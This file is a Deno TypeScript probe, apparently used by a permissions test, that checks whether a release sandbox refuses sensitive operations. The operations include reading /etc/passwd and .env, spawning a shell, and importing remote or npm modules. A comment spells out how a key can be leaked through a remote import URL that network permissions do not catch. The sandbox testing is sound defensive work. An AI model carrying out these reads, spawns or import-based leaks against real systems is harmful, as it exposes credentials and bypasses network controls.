/**
 * Tries each operation named in its arguments, in turn, and prints one line
 * for each: "ok" or the error's class name; run by permissions_test.ts under
 * the release permission set. A refused operation changes nothing for the
 * next (the set never prompts), so one process tries them all.
 *
 * @module
 */
const home = Deno.env.get("OMNIMANCER_HOME")!;

const attempts: Record<string, () => Promise<unknown>> = {
  "read-etc-passwd": () => Deno.readTextFile("/etc/passwd"),
  "fetch-foreign-host": () => fetch("https://example.com/"),
  "spawn": () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).output(),
  "write-outside": () => Deno.writeTextFile("/tmp/omn-probe-should-not-exist", "x"),
  "env-unlisted": () => {
    // Unlisted variables read as unset: the value never reaches the program.
    const value = Deno.env.get("OMN_PROBE_UNLISTED");
    return value === undefined ? Promise.reject(new Error("NotReadable")) : Promise.resolve(value);
  },
  "write-config-dir": async () => {
    await Deno.mkdir(home, { recursive: true });
    await Deno.writeTextFile(`${home}/probe`, "x");
  },
  "read-dotenv": () => Deno.readTextFile("./.env"),
  // Deno lets `import()` reach these hosts unless told otherwise (its default `--allow-import`):
  // a way out for a key (`import("https://esm.sh/x?k=" + key)`) that `--allow-net` does not see.
  "import-remote": async () => {
    for (
      const host of [
        "deno.land",
        "jsr.io",
        "esm.sh",
        "raw.esm.sh",
        "cdn.jsdelivr.net",
        "raw.githubusercontent.com",
        "gist.githubusercontent.com",
        "example.com",
      ]
    ) {
      try {
        await import(`https://${host}/omn-probe.js`);
      } catch (error) {
        if (/Requires import access/.test((error as Error).message)) continue;
        throw error;
      }
      throw new Error(`imported from ${host}`);
    }
    throw new Error("NotImportable");
  },
  // `import("npm:…")` makes Deno fetch the package from the npm registry, a host `--allow-net`
  // does not list (and `NPM_CONFIG_REGISTRY` or an `.npmrc` may name another).
  "import-npm": async () => {
    try {
      await import(["npm:", "left-pad@1.3.0"].join(""));
    } catch (error) {
      if (/--no-npm|--cached-only|Requires import access/.test((error as Error).message)) {
        throw new Error("NotImportable");
      }
      throw error;
    }
  },
  "loopback": async () => {
    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const connection = await Deno.connect({ hostname: "127.0.0.1", port: listener.addr.port });
    connection.close();
  },
};

for (const what of Deno.args) {
  try {
    await attempts[what]();
    console.log("ok");
  } catch (error) {
    console.log(
      error instanceof Error
        ? (/^Not(Readable|Importable)$/.test(error.message)
          ? error.message
          : error.constructor.name)
        : String(error),
    );
  }
}
